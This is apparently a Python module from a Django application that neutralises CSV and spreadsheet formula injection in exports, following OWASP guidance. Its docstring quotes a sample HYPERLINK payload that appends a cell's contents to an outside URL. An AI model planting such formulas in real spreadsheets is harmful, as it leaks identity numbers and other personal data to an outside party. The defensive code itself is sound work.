"""Writing spreadsheet cells safely: text that looks like a formula stays text (CSV/formula injection).

A name, crime, note or topic typed as `=HYPERLINK("http://…/?"&C2,"点击")` would otherwise be written
as a live formula: opened in Excel or WPS it runs, and in a full-identity export one click sends the
clear identity number away. Following OWASP ("CSV Injection"), every value that is text and begins
with `=`, `+`, `-`, `@`, a tab or a carriage return is neutralised:

- in .xlsx, the cell is stored as a string (never a formula) with Excel's "quote prefix" set, so the
  value itself is unchanged (an export still reads back in) and editing the cell keeps it text;
- in CSV, which has no cell types, the value is prefixed with an apostrophe.

Every export that writes a spreadsheet goes through `append_row`/`set_cell` (xlsx) or `csv_row`
(CSV), and says so with `NEUTRALISED_NOTE` in its header or notes sheet.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from django.utils.translation import gettext_lazy as _

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
NEUTRALISED_NOTE = _(
    "Cells whose text begins with = + - @ are stored as plain text, never as formulas, so that no "
    "formula in the data can run when the file is opened."
)


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: formula-like text gets a leading apostrophe."""
    return "'" + value if looks_like_formula(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(value) for value in values]


def _as_text(cell: Any) -> Any:
    if looks_like_formula(cell.value):
        cell.data_type = "s"  # openpyxl typed it "f" (formula) because it starts with "="
        cell.quotePrefix = True
    return cell


def set_cell(sheet: Any, *, row: int, column: int, value: Any) -> Any:
    """`sheet.cell(row=, column=, value=)` for a normal (not write-only) worksheet, neutralised."""
    return _as_text(sheet.cell(row=row, column=column, value=value))


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)`, neutralised; works for normal and write-only worksheets."""
    values = list(values)
    if not any(looks_like_formula(value) for value in values):
        sheet.append(values)
        return
    from openpyxl.cell import Cell, WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    # append() takes cells as well as values: the formula-like ones go in as cells typed as text.
    make = WriteOnlyCell if isinstance(sheet, WriteOnlyWorksheet) else Cell
    sheet.append([_as_text(make(sheet, value=value)) if looks_like_formula(value) else value for value in values])
